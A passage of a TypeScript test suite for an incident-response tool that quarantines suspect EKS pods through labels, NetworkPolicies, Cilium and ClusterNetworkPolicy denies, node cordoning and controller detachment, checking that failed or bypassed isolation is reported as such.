      expect(isolation.detail).toMatch(message);
      // The create is refused (409) and the policy there is read back: never replaced or patched.
      expect(cluster.callsTo('createNamespacedNetworkPolicy')).toHaveLength(1);
      expect([...cluster.policies.entries()]).toEqual([
        [`payments/${networkPolicyName(uid)}`, existing],
      ]);
      expect(result.release).not.toContain('delete networkpolicy');
    },
  );

  it('a host-network pod: the policy is made but the outcome says the pod is NOT isolated', async () => {
    const request = named();
    cluster.addPod(victimPod(request, { hostNetwork: true }));
    const result = await contain(request);
    const isolation = outcomeOf(result, 'eks:isolate-pod-network');
    expect(isolation).toMatchObject({ status: 'failed', retryable: false });
    expect(isolation.detail).toMatch(/uses the host network.*NOT isolated/);
    expect(result.release).toContain('delete networkpolicy');
  });

  it('a host-network pod whose label failed: NOT isolated, and the policy would not help either', async () => {
    const request = named();
    cluster.addPod(victimPod(request, { hostNetwork: true }));
    cluster.failNext.set(
      'patchNamespacedPod',
      apiError(500, 'InternalError', 'etcdserver: request timed out'),
    );
    const result = await contain(request);
    const isolation = outcomeOf(result, 'eks:isolate-pod-network');
    // The label failure is retryable, the host network is not.
    expect(isolation).toMatchObject({ status: 'failed', retryable: false });
    expect(isolation.detail).toMatch(
      /is NOT isolated: .*\(label step: failed\); NetworkPolicy \S+ is in place and left there, but: .*uses the host network/,
    );
    expect(isolation.detail).not.toContain('once the label is on it');
    expect(result.release).toContain('delete networkpolicy');
  });

  it('a 500 on the label patch with the policy made alongside: NOT isolated, retryable (a retry labels the pod)', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.failNext.set(
      'patchNamespacedPod',
      apiError(500, 'InternalError', 'etcdserver: request timed out'),
    );
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:label-pod')).toMatchObject({ status: 'failed', retryable: true });
    const isolation = outcomeOf(result, 'eks:isolate-pod-network');
    expect(isolation).toMatchObject({ status: 'failed', retryable: true });
    expect(isolation.detail).toMatch(/is NOT isolated/);

    // The retry: the pod is labelled now, the policy there is confirmed (409, read back).
    cluster.calls = [];
    const retry = await contain(request);
    expect(statuses(retry)).toEqual({
      'eks:label-pod': 'contained',
      'eks:isolate-pod-network': 'already-contained',
    });
    expect(cluster.policies.size).toBe(1);
  });

  it('the label patch and the policy create both fail: NOT isolated, no policy, nothing to release', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.failNext.set(
      'patchNamespacedPod',
      apiError(503, 'ServiceUnavailable', 'the server is currently unable to handle the request'),
    );
    cluster.failNext.set(
      'createNamespacedNetworkPolicy',
      forbidden('create', 'networkpolicies', 'networking.k8s.io'),
    );
    const result = await contain(request);
    const isolation = outcomeOf(result, 'eks:isolate-pod-network');
    // The label failure alone would be retryable; the missing permission is not.
    expect(isolation).toMatchObject({ status: 'failed', retryable: false });
    expect(isolation.detail).toMatch(
      /is NOT isolated: .*\(label step: failed\); the NetworkPolicy is not in place either: create NetworkPolicy .*\(missing permission: create networkpolicies\)$/,
    );
    expect(cluster.policies.size).toBe(0);
    expect(result.release).toBeUndefined();
  });

  it('a pod already labelled by an earlier run: the policy is read first, and created only when missing', async () => {
    const request = named();
    const uid = request.target.podUid!;
    cluster.addPod(
      victimPod(request, {
        labels: { [QUARANTINE_LABEL]: uid },
        annotations: { [FINDING_ANNOTATION]: request.findingId },
      }),
    );
    const result = await contain(request);
    expect(statuses(result)).toEqual({
      'eks:label-pod': 'already-contained',
      'eks:isolate-pod-network': 'contained',
    });
    expect(cluster.calls.map((c) => c.method).sort()).toEqual([
      'createNamespacedNetworkPolicy',
      ...DISCOVERY,
      'listNamespacedNetworkPolicy',
      'readNamespacedNetworkPolicy',
      'readNamespacedPod',
    ]);
    const methods = cluster.calls.map((c) => c.method);
    expect(methods.indexOf('createNamespacedNetworkPolicy')).toBeGreaterThan(
      methods.indexOf('readNamespacedNetworkPolicy'),
    );
  });

  it('isolating without eks:label-pod in the request still labels first (the policy needs it)', async () => {
    const request = named((r) => {
      r.actions = ['eks:isolate-pod-network'];
    });
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    expect(statuses(result)).toEqual({ 'eks:isolate-pod-network': 'contained' });
    expect(
      cluster.pod('payments', request.target.podName!).metadata?.labels?.[QUARANTINE_LABEL],
    ).toBe(request.target.podUid);
    expect(result.release).toContain(`label pod ${request.target.podName} ${QUARANTINE_LABEL}-`);
  });
});

// ---------------------------------------------------------------- errors

describe('NetworkPolicies add up: other allows are checked before claiming isolation', () => {
  const allowAll443 = (namespace: string, name = 'allow-https-out'): V1NetworkPolicy => ({
    metadata: { name, namespace },
    spec: {
      podSelector: {},
      policyTypes: ['Egress'],
      egress: [
        { to: [{ ipBlock: { cidr: '0.0.0.0/0' } }], ports: [{ protocol: 'TCP', port: 443 }] },
      ],
    },
  });
  const addPolicy = (policy: V1NetworkPolicy) =>
    cluster.policies.set(`${policy.metadata?.namespace}/${policy.metadata?.name}`, policy);

  it('an allow policy that selects every pod: NOT isolated, the policy named with what it allows', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    addPolicy(allowAll443('payments'));
    addPolicy({
      metadata: { name: 'db-only', namespace: 'payments' },
      spec: { podSelector: { matchLabels: { app: 'db' } }, ingress: [{}] },
    });
    const result = await contain(request);
    expect(statuses(result)).toEqual({
      'eks:label-pod': 'contained',
      'eks:isolate-pod-network': 'failed',
    });
    const network = outcomeOf(result, 'eks:isolate-pod-network');
    expect(network.retryable).toBe(false);
    expect(network.detail).toContain('is NOT isolated: NetworkPolicies add up');
    expect(network.detail).toContain(
      'payments/allow-https-out allows egress to 0.0.0.0/0 on TCP 443',
    );
    expect(network.detail).not.toContain('db-only');
    expect(network.evidence?.bypassedBy).toBe('payments/allow-https-out');
    // The quarantine policy is in place all the same: the release still removes it.
    expect(result.release).toContain(
      `delete networkpolicy ${networkPolicyName(request.target.podUid!)}`,
    );
    expect(result.notes.join(' ')).toContain('remove or narrow the NetworkPolicies');
  });

  it('policies of other namespaces do not count', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    addPolicy(allowAll443('other'));
    expect(statuses(await contain(request))['eks:isolate-pod-network']).toBe('contained');
  });

  it('a re-run on an already isolated pod is re-judged: a policy added since makes it NOT isolated', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    expect(statuses(await contain(request))['eks:isolate-pod-network']).toBe('contained');
    addPolicy(allowAll443('payments', 'added-by-the-workload'));
    const again = outcomeOf(await contain(request), 'eks:isolate-pod-network');
    expect(again.status).toBe('failed');
    expect(again.detail).toContain('payments/added-by-the-workload allows egress');
  });

  it('policies that cannot be listed: failed, the check unknown, naming the permission', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.failNext.set(
      'listNamespacedNetworkPolicy',
      forbidden('list', 'networkpolicies', 'networking.k8s.io'),
    );
    const network = outcomeOf(await contain(request), 'eks:isolate-pod-network');
    expect(network.status).toBe('failed');
    expect(network.detail).toContain('is in place, but whether other NetworkPolicies');
    expect(network.detail).toContain('(missing permission: list networkpolicies)');
  });

  it('a dry run says the pod would not be isolated', async () => {
    const request = named((r) => {
      r.dryRun = true;
    });
    cluster.addPod(victimPod(request));
    addPolicy(allowAll443('payments'));
    const network = outcomeOf(await contain(request), 'eks:isolate-pod-network');
    expect(network.status).toBe('dry-run');
    expect(network.detail).toContain('but the pod would NOT be isolated');
  });

  it('a policy selecting the labels the detach gives the pod counts too', async () => {
    const request = requestFrom('eks-runc-container-escape.json', (r) => {
      r.actions = ['eks:label-pod', 'eks:isolate-pod-network', 'eks:detach-from-controller'];
    });
    seedReplicaSetPod(request);
    addPolicy({
      metadata: { name: 'not-victims', namespace: request.target.namespace },
      spec: {
        podSelector: { matchExpressions: [{ key: 'app', operator: 'NotIn', values: ['victim'] }] },
        policyTypes: ['Ingress'],
        ingress: [{ ports: [{ port: 22 }] }],
      },
    });
    const result = await contain(request);
    expect(statuses(result)['eks:detach-from-controller']).toBe('contained');
    expect(outcomeOf(result, 'eks:isolate-pod-network').detail).toContain(
      'not-victims allows ingress from everywhere on TCP 22',
    );
  });
});

describe('a deny in the tier above NetworkPolicies, where the cluster serves one', () => {
  const EKS_TIER = 'networking.k8s.aws/v1alpha1';
  const egressAllow = (namespace: string): V1NetworkPolicy => ({
    metadata: { name: 'egress-443', namespace },
    spec: {
      podSelector: {},
      policyTypes: ['Egress'],
      egress: [{ to: [{ ipBlock: { cidr: '0.0.0.0/0' } }], ports: [{ port: 443 }] }],
    },
  });
  const ingressFromVpc = (namespace: string): V1NetworkPolicy => ({
    metadata: { name: 'from-vpc', namespace },
    spec: { podSelector: {}, ingress: [{ _from: [{ ipBlock: { cidr: '10.0.0.0/8' } }] }] },
  });
  const addPolicy = (policy: V1NetworkPolicy) =>
    cluster.policies.set(`${policy.metadata?.namespace}/${policy.metadata?.name}`, policy);

  /** A request whose policy says the cluster's plugin enforces the deny tier. */
  const trusting = (change?: (request: Json) => void) =>
    named((r) => {
      r.eks.trustDenyTier = true;
      change?.(r);
    });

  it('by default the placed deny is not counted: an egress allow still bypasses, and the note says why', async () => {
    const request = named();
    cluster.servedTiers.set(EKS_TIER, ['clusternetworkpolicies']);
    cluster.addPod(victimPod(request));
    addPolicy(egressAllow('payments'));
    const result = await contain(request);
    const network = outcomeOf(result, 'eks:isolate-pod-network');
    expect(network.status).toBe('failed');
    expect(network.detail).toContain('payments/egress-443 allows egress');
    expect(network.evidence?.tierDeny).toContain('ClusterNetworkPolicy');
    expect(result.notes.join(' ')).toContain('set eks.trustDenyTier');
  });

  it('the VPC CNI ClusterNetworkPolicy: Admin tier, priority 0, this pod only; egress allows no longer bypass, ingress from networks still does', async () => {
    const request = trusting();
    const uid = request.target.podUid!;
    cluster.servedTiers.set(EKS_TIER, ['policyendpoints', 'clusternetworkpolicies']);
    cluster.addPod(victimPod(request));
    addPolicy(egressAllow('payments'));
    const result = await contain(request);
    const cnp = cluster.customObjects.get(
      `networking.k8s.aws/clusternetworkpolicies//${networkPolicyName(uid)}`,
    ) as Json;
    expect(cnp.spec).toEqual({
      tier: 'Admin',
      priority: 0,
      subject: {
        pods: {
          namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': 'payments' } },
          podSelector: { matchLabels: { [QUARANTINE_LABEL]: uid } },
        },
      },
      ingress: [{ name: 'deny-all-ingress', action: 'Deny', from: [{ namespaces: {} }] }],
      egress: [
        {
          name: 'deny-all-egress',
          action: 'Deny',
          to: [{ networks: ['0.0.0.0/0', '::/0'] }, { namespaces: {} }],
        },
      ],
    });
    const network = outcomeOf(result, 'eks:isolate-pod-network');
    expect(network.status).toBe('contained');
    expect(network.evidence?.tierDeny).toBe(
      `ClusterNetworkPolicy ${networkPolicyName(uid)} (${EKS_TIER})`,
    );
    expect(result.release).toContain(
      `kubectl delete clusternetworkpolicies.v1alpha1.networking.k8s.aws ${networkPolicyName(uid)}`,
    );
    expect(result.notes.join(' ')).toContain('not ingress from outside the cluster');

    // Ingress from networks is not something the Admin tier can deny.
    addPolicy(ingressFromVpc('payments'));
    const again = outcomeOf(await contain(request), 'eks:isolate-pod-network');
    expect(again.status).toBe('failed');
    expect(again.detail).toContain('payments/from-vpc allows ingress from 10.0.0.0/8');
    expect(again.detail).not.toContain('egress-443');
  });

  it('Cilium deny rules cover every peer; with DNS allowed, the note says Cilium denies it too', async () => {
    const request = trusting((r) => {
      r.eks.allowDnsEgress = true;
    });
    cluster.servedTiers.set('cilium.io/v2', [
      'ciliumclusterwidenetworkpolicies',
      'ciliumendpoints',
    ]);
    cluster.addPod(victimPod(request));
    addPolicy(ingressFromVpc('payments'));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:isolate-pod-network').status).toBe('contained');
    const cilium = cluster.customObjects.get(
      `cilium.io/ciliumclusterwidenetworkpolicies//${networkPolicyName(request.target.podUid!)}`,
    ) as Json;
    expect(cilium.spec).toEqual({
      endpointSelector: {
        matchLabels: {
          [QUARANTINE_LABEL]: request.target.podUid,
          'k8s:io.kubernetes.pod.namespace': 'payments',
        },
      },
      ingressDeny: [{ fromEntities: ['all'] }],
      egressDeny: [{ toEntities: ['all'] }],
    });
    expect(result.notes.join(' ')).toContain('denies cluster DNS too');
    expect(result.release).toContain(
      'kubectl delete ciliumclusterwidenetworkpolicies.v2.cilium.io gdrr-quarantine-',
    );
  });

  it('both ClusterNetworkPolicy kinds served: both placed, each DNS accept in its own port syntax', async () => {
    const request = named((r) => {
      r.eks.allowDnsEgress = true;
    });
    cluster.servedTiers.set(EKS_TIER, ['clusternetworkpolicies']);
    cluster.servedTiers.set('policy.networking.k8s.io/v1alpha2', ['clusternetworkpolicies']);
    cluster.addPod(victimPod(request));
    await contain(request);
    const name = networkPolicyName(request.target.podUid!);
    const dnsRule = (group: string) =>
      (cluster.customObjects.get(`${group}/clusternetworkpolicies//${name}`) as Json).spec
        .egress[0];
    expect(dnsRule('networking.k8s.aws')).toMatchObject({
      action: 'Accept',
      ports: [
        { portNumber: { protocol: 'UDP', port: 53 } },
        { portNumber: { protocol: 'TCP', port: 53 } },
      ],
    });
    expect(dnsRule('policy.networking.k8s.io')).toMatchObject({
      action: 'Accept',
      protocols: [
        { udp: { destinationPort: { number: 53 } } },
        { tcp: { destinationPort: { number: 53 } } },
      ],
    });
  });

  it('a group served without the kind, a failed discovery, a refused create: no tier, allows judged without one', async () => {
    const request = named();
    cluster.servedTiers.set('cilium.io/v2', ['ciliumnetworkpolicies', 'ciliumendpoints']);
    cluster.servedTiers.set('policy.networking.k8s.io/v1alpha2', ['clusternetworkpolicies']);
    cluster.addPod(victimPod(request));
    addPolicy(egressAllow('payments'));
    // The first discovery read (the VPC CNI's group) fails.
    cluster.failNext.set('getAPIResources', apiError(503, 'ServiceUnavailable', 'unavailable'));
    cluster.failNext.set(
      'createClusterCustomObject',
      forbidden('create', 'clusternetworkpolicies', 'policy.networking.k8s.io'),
    );
    const result = await contain(request);
    const network = outcomeOf(result, 'eks:isolate-pod-network');
    expect(network.status).toBe('failed');
    expect(network.detail).toContain('payments/egress-443 allows egress');
    expect(network.evidence?.tierDeny).toBeUndefined();
    expect(result.notes.join(' ')).toContain('no deny above NetworkPolicies from create');
    expect(result.notes.join(' ')).toContain('missing permission: create clusternetworkpolicies');
    expect(result.notes.join(' ')).toContain(
      `whether the cluster serves ${EKS_TIER} is unknown (API discovery failed)`,
    );
    expect(cluster.customObjects.size).toBe(0);
  });

  it('plugin policy kinds the cluster serves (Calico, Cilium) are named in a note: their allows are not read', async () => {
    const request = named();
    cluster.servedTiers.set('crd.projectcalico.org/v1', ['networkpolicies', 'ippools']);
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:isolate-pod-network').status).toBe('contained');
    expect(result.notes.join(' ')).toContain(
      'the cluster also serves networkpolicies.crd.projectcalico.org: policies of those kinds are not read',
    );
  });

  it("an object of that name that is not the responder's is not relied on", async () => {
    const request = named();
    const name = networkPolicyName(request.target.podUid!);
    cluster.servedTiers.set(EKS_TIER, ['clusternetworkpolicies']);
    cluster.customObjects.set(`networking.k8s.aws/clusternetworkpolicies//${name}`, {
      metadata: { name, labels: { [QUARANTINE_LABEL]: 'someone-else' } },
      spec: { tier: 'Admin', priority: 0, subject: { namespaces: {} }, egress: [] },
    });
    cluster.addPod(victimPod(request));
    addPolicy(egressAllow('payments'));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:isolate-pod-network').status).toBe('failed');
    expect(result.notes.join(' ')).toContain("exists but is not the responder's for this pod");
    expect(result.release).not.toContain('clusternetworkpolicies');
  });

  it('a re-run reads the tier object first and writes nothing; a dry run says what it would create', async () => {
    const request = named();
    cluster.servedTiers.set(EKS_TIER, ['clusternetworkpolicies']);
    cluster.addPod(victimPod(request));
    await contain(request);
    cluster.calls = [];
    const again = await contain(request);
    expect(outcomeOf(again, 'eks:isolate-pod-network').evidence?.tierDeny).toContain(
      'ClusterNetworkPolicy',
    );
    expect(cluster.callsTo('createClusterCustomObject')).toEqual([]);
    expect(cluster.callsTo('getClusterCustomObject')).toHaveLength(1);

    cluster = new FakeCluster();
    cluster.servedTiers.set(EKS_TIER, ['clusternetworkpolicies']);
    const dry = named((r) => {
      r.dryRun = true;
    });
    cluster.addPod(victimPod(dry));
    const network = outcomeOf(await contain(dry), 'eks:isolate-pod-network');
    expect(network.detail).toContain(
      `would also create ClusterNetworkPolicy ${networkPolicyName(dry.target.podUid!)} (${EKS_TIER}) above NetworkPolicies`,
    );
    expect(cluster.customObjects.size).toBe(0);
  });
});

describe('eks.whenIsolationBypassed: delete-replaceable-pod', () => {
  const bypassing = (namespace: string): V1NetworkPolicy => ({
    metadata: { name: 'allow-all-ingress', namespace },
    spec: { podSelector: {}, ingress: [{}] },
  });
  const deleting = (change?: (request: Json) => void) =>
    named((r) => {
      r.eks.whenIsolationBypassed = 'delete-replaceable-pod';
      change?.(r);
    });
  const seedBypassed = (request: Request) =>
    cluster.policies.set(
      `${request.target.namespace}/allow-all-ingress`,
      bypassing(request.target.namespace),
    );

  it('a bypassed pod its ReplicaSet replaces is deleted at once, only that uid', async () => {
    const request = deleting();
    seedReplicaSetPod(request);
    seedBypassed(request);
    const result = await contain(request);
    const network = outcomeOf(result, 'eks:isolate-pod-network');
    expect(network.status).toBe('contained');
    expect(network.detail).toMatch(/^deleted pod payments\/\S+ \(eks.whenIsolationBypassed/);
    expect(network.detail).toContain('allow-all-ingress allows ingress from everywhere');
    expect(network.detail).toContain('ReplicaSet/rs starts a replacement');
    expect(cluster.pods.size).toBe(0);
    const [call] = cluster.callsTo('deleteNamespacedPod');
    expect(call?.param).toMatchObject({
      gracePeriodSeconds: 0,
      body: { preconditions: { uid: request.target.podUid } },
    });
    expect(result.notes.join(' ')).toContain('its memory and files are gone');
  });

  it('a bypassed pod without a replacing controller is not deleted: still NOT isolated', async () => {
    const request = deleting();
    cluster.addPod(victimPod(request));
    seedBypassed(request);
    const network = outcomeOf(await contain(request), 'eks:isolate-pod-network');
    expect(network.status).toBe('failed');
    expect(network.detail).toContain('not deleted');
    expect(cluster.callsTo('deleteNamespacedPod')).toEqual([]);
  });

  it('no bypass, no deletion; the default policy reports and never deletes', async () => {
    const request = deleting();
    seedReplicaSetPod(request);
    expect(outcomeOf(await contain(request), 'eks:isolate-pod-network').status).toBe('contained');
    const reported = named();
    cluster = new FakeCluster();
    seedReplicaSetPod(reported);
    seedBypassed(reported);
    expect(outcomeOf(await contain(reported), 'eks:isolate-pod-network').status).toBe('failed');
    expect(cluster.callsTo('deleteNamespacedPod')).toEqual([]);
  });

  it('a dry run says it would delete; a refused delete names the opt-in manifest', async () => {
    const dry = deleting((r) => {
      r.dryRun = true;
    });
    seedReplicaSetPod(dry);
    seedBypassed(dry);
    expect(outcomeOf(await contain(dry), 'eks:isolate-pod-network').detail).toContain(
      'would delete it',
    );
    expect(cluster.callsTo('deleteNamespacedPod')).toEqual([]);
    cluster.failNext.set('deleteNamespacedPod', forbidden('delete', 'pods'));
    const refused = outcomeOf(await contain(deleting()), 'eks:isolate-pod-network');
    expect(refused.status).toBe('failed');
    expect(refused.detail).toContain('(apply infra/k8s/rbac-opt-in.yaml)');
  });
});

describe('errors from the API server', () => {
  it('403 on the label patch: failed, not retryable, naming verb and resource; the pod is reported NOT isolated', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.failNext.set('patchNamespacedPod', forbidden('patch', 'pods'));
    const result = await contain(request);
    const label = outcomeOf(result, 'eks:label-pod');
    expect(label).toMatchObject({ status: 'failed', retryable: false });
    expect(label.detail).toMatch(
      /^patch pod payments\/checkout-api-7c9f8b6d5-x2k4q: Forbidden: .*cannot patch resource "pods".*\(missing permission: patch pods\)$/,
    );
    expect(label.detail).not.toContain('Headers');
    const isolation = outcomeOf(result, 'eks:isolate-pod-network');
    expect(isolation).toMatchObject({ status: 'failed', retryable: false });
    expect(isolation.detail).toMatch(
      /is NOT isolated: the NetworkPolicy selects it by its quarantine label, which is not on it \(label step: failed\); NetworkPolicy payments\/gdrr-quarantine-\S+ is in place and left there: it isolates the pod once the label is on it$/,
    );
    // The policy was created alongside the label; it is kept (it selects no pod without the
    // label) and its release command is given; there is no label to undo.
    const uid = request.target.podUid!;
    expect(cluster.callsTo('createNamespacedNetworkPolicy')).toHaveLength(1);
    expect(cluster.pod('payments', request.target.podName!).metadata?.labels).toEqual(
      victimPod(request).metadata?.labels,
    );
    expect(result.release).toBe(
      `aws eks update-kubeconfig --region us-east-1 --name prod-eks; kubectl -n payments delete networkpolicy ${networkPolicyName(uid)}`,
    );
  });

  it('403 on create networkpolicies: that step fails naming the permission, the label stays reported', async () => {
    const request = named();
    cluster.addPod(victimPod(request));
    cluster.failNext.set(
      'createNamespacedNetworkPolicy',
      forbidden('create', 'networkpolicies', 'networking.k8s.io'),
    );
    const result = await contain(request);
    expect(statuses(result)).toEqual({
      'eks:label-pod': 'contained',
      'eks:isolate-pod-network': 'failed',
    });
    expect(outcomeOf(result, 'eks:isolate-pod-network').detail).toContain(
      '(missing permission: create networkpolicies)',
    );
    expect(outcomeOf(result, 'eks:isolate-pod-network').retryable).toBe(false);
  });

  it.each([
    [500, 'InternalError', 'etcdserver: request timed out'],
    [503, 'ServiceUnavailable', 'the server is currently unable to handle the request'],
    [429, 'TooManyRequests', 'too many requests'],
  ])('%i reading the pod: every action failed and retryable', async (code, reason, message) => {
    cluster.failNext.set('readNamespacedPod', apiError(code, reason, message));
    const result = await contain(named());
    expect(result.outcomes.map((o) => [o.status, o.retryable])).toEqual([
      ['failed', true],
      ['failed', true],
    ]);
    expect(result.outcomes[0]?.detail).toBe(
      `get pod payments/checkout-api-7c9f8b6d5-x2k4q: ${reason}: ${message}`,
    );
  });

  it('403 listing pods (container id lookup) names list pods', async () => {
    cluster.failNext.set('listPodIdentities', forbidden('list', 'pods'));
    const result = await contain(byContainer());
    expect(result.outcomes[0]).toMatchObject({ status: 'failed', retryable: false });
    expect(result.outcomes[0]?.detail).toContain('(missing permission: list pods)');
  });

  it('a network error is failed and retryable', async () => {
    cluster.failNext.set(
      'readNamespacedPod',
      Object.assign(new Error('connect ECONNREFUSED 10.0.0.1:443'), { code: 'ECONNREFUSED' }),
    );
    const result = await contain(named());
    expect(result.outcomes.map((o) => [o.status, o.retryable])).toEqual([
      ['failed', true],
      ['failed', true],
    ]);
  });

  it('every patch is sent as a JSON merge patch (client-node defaults to JSON patch)', async () => {
    const request = named((r) => {
      r.actions = [
        'eks:label-pod',
        'eks:isolate-pod-network',
        'eks:cordon-node',
        'eks:detach-from-controller',
      ];
    });
    cluster.addPod(
      victimPod(request, {
        owner: {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: 'checkout-api-7c9f8b6d5',
          uid: 'x',
          controller: true,
        },
      }),
    );
    cluster.replicaSets.set('payments/checkout-api-7c9f8b6d5', {
      spec: { selector: { matchLabels: { app: 'victim' } } },
    });
    cluster.addNode('ip-10-0-1-23.ec2.internal');
    await contain(request);
    const patches = cluster.calls.filter((c) => c.method.startsWith('patch'));
    expect(patches.map((c) => [c.method, c.contentType])).toEqual([
      ['patchNamespacedPod', 'application/merge-patch+json'],
      ['patchNode', 'application/merge-patch+json'],
      ['patchNamespacedPod', 'application/merge-patch+json'],
    ]);
  });
});

// ---------------------------------------------------------------- cordon

describe('cordoning the node', () => {
  const escape = (change?: (request: Json) => void) =>
    requestFrom('eks-runc-container-escape.json', change);
  const NODE = 'ip-10-0-1-23.ec2.internal';

  it('cordons the pod node: unschedulable, labelled, annotated; release uncordons', async () => {
    const request = escape();
    expect(request.actions).toEqual([
      'eks:label-pod',
      'eks:isolate-pod-network',
      'eks:cordon-node',
    ]);
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE);
    cluster.addNode('already-1', { metadata: { labels: { [CORDONED_LABEL]: 'true' } } });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({
      status: 'contained',
      detail: `cordoned node ${NODE}`,
      evidence: { node: NODE, cordonedNodes: 2, budget: 3 },
    });
    expect(cluster.nodes.get(NODE)).toMatchObject({
      metadata: {
        labels: { [CORDONED_LABEL]: 'true' },
        annotations: { [FINDING_ANNOTATION]: request.findingId },
      },
      spec: { unschedulable: true },
    });
    expect(cluster.callsTo('listNode').map((c) => c.param.labelSelector)).toEqual([
      `${CORDONED_LABEL}=true`,
    ]);
    expect(result.release).toMatch(
      new RegExp(
        `^aws eks update-kubeconfig .*; kubectl uncordon ${NODE}; kubectl label node ${NODE} ${CORDONED_LABEL}-; kubectl annotate node ${NODE} ${FINDING_ANNOTATION}-; kubectl -n ops-tools delete networkpolicy`,
      ),
    );
    expect(result.notes.join(' ')).toContain('pods already on it keep running');
  });

  it('the budget is reached: skipped, the node stays schedulable', async () => {
    const request = escape();
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE);
    for (const n of [1, 2, 3])
      cluster.addNode(`cordoned-${n}`, { metadata: { labels: { [CORDONED_LABEL]: 'true' } } });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({ status: 'skipped' });
    expect(outcomeOf(result, 'eks:cordon-node').detail).toMatch(
      /^cordon budget of 3 nodes per cluster reached/,
    );
    expect(cluster.callsTo('patchNode')).toEqual([]);
    expect(cluster.nodes.get(NODE)?.spec?.unschedulable).toBeUndefined();
    expect(statuses(result)['eks:isolate-pod-network']).toBe('contained');
  });

  it('a budget of zero never cordons', async () => {
    const request = escape((r) => {
      r.eks.maxCordonedNodes = 0;
    });
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE);
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node').detail).toMatch(
      /^cordon budget of 0 nodes per cluster reached/,
    );
  });

  it('an already unschedulable node is already-contained; release uncordons only what the responder cordoned', async () => {
    const request = escape();
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE, { spec: { unschedulable: true } });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({ status: 'already-contained' });
    expect(outcomeOf(result, 'eks:cordon-node').detail).toContain('not by the responder');
    expect(result.release).not.toContain('uncordon');
    expect(cluster.callsTo('patchNode')).toEqual([]);
  });

  it('the count of cordoned nodes does not matter for a node already unschedulable, even when it fails', async () => {
    const request = escape();
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE, {
      metadata: { labels: { [CORDONED_LABEL]: 'true' } },
      spec: { unschedulable: true },
    });
    cluster.failNext.set('listNode', forbidden('list', 'nodes'));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({
      status: 'already-contained',
      detail: `node ${NODE} is already cordoned by the responder`,
    });
    expect(result.release).toContain(`kubectl uncordon ${NODE}`);
    expect(cluster.callsTo('patchNode')).toEqual([]);
  });

  it('the node is gone: skipped', async () => {
    const request = escape();
    cluster.addPod(victimPod(request));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({
      status: 'skipped',
      detail: `node ${NODE} no longer exists`,
    });
  });

  it('403 on patch nodes: failed, naming the permission', async () => {
    const request = escape();
    cluster.addPod(victimPod(request));
    cluster.addNode(NODE);
    cluster.failNext.set('patchNode', forbidden('patch', 'nodes'));
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:cordon-node')).toMatchObject({
      status: 'failed',
      retryable: false,
    });
    expect(outcomeOf(result, 'eks:cordon-node').detail).toContain(
      '(missing permission: patch nodes)',
    );
  });
});

// ---------------------------------------------------------------- detach

describe('detaching the pod from its controller', () => {
  const RS = 'checkout-api-7c9f8b6d5';
  const owner = {
    apiVersion: 'apps/v1',
    kind: 'ReplicaSet',
    name: RS,
    uid: 'rs-uid',
    controller: true,
  };
  const detach = () =>
    named((r) => {
      r.actions = ['eks:detach-from-controller'];
    });
  const withReplicaSet = (selector: Json) =>
    cluster.replicaSets.set(`payments/${RS}`, { spec: { selector } });

  it('relabels the labels the selector matches and records the originals', async () => {
    const request = detach();
    cluster.addPod(victimPod(request, { owner }));
    withReplicaSet({ matchLabels: { app: 'victim', 'pod-template-hash': '7c9f8b6d5' } });
    const result = await contain(request);
    expect(outcomeOf(result, 'eks:detach-from-controller')).toMatchObject({
      status: 'contained',
      evidence: {
        controller: `ReplicaSet/${RS}`,
        originalLabels: 'app=victim,pod-template-hash=7c9f8b6d5',
      },
    });
    const pod = cluster.pod('payments', request.target.podName!);
    expect(pod.metadata?.labels).toEqual({
      app: 'quarantined-victim',
      'pod-template-hash': 'quarantined-7c9f8b6d5',
    });
    expect(JSON.parse(pod.metadata?.annotations?.[DETACHED_LABELS_ANNOTATION] ?? '')).toEqual({
      app: 'victim',
      'pod-template-hash': '7c9f8b6d5',
    });
    expect(cluster.callsTo('readNamespacedReplicaSet').map((c) => c.param)).toEqual([
      { name: RS, namespace: 'payments' },
    ]);
    expect(result.release).toContain(
      `kubectl -n payments label pod ${request.target.podName} --overwrite app=victim pod-template-hash=7c9f8b6d5`,
    );
    expect(result.notes.join(' ')).toContain('starts a replacement');

    cluster.calls = [];
    const again = await contain(request);
    expect(statuses(again)).toEqual({ 'eks:detach-from-controller': 'already-contained' });
    expect(cluster.writes()).toEqual([]);
    expect(again.release).toContain('--overwrite app=victim pod-template-hash=7c9f8b6d5');
  });

  it('a forged "detached" annotation on a pod its ReplicaSet still selects does not stop the detach', async () => {
    const request = detach();
    cluster.addPod(
      victimPod(request, { owner, annotations: { [DETACHED_LABELS_ANNOTATION]: '{"app":"x"}' } }),
    );
    withReplicaSet({ matchLabels: { app: 'victim' } });
    const result = await contain(request);
    expect(statuses(result)).toEqual({ 'eks:detach-from-controller': 'contained' });
    const pod = cluster.pod('payments', request.target.podName!);
    expect(pod.metadata?.labels?.app).toBe('quarantined-victim');
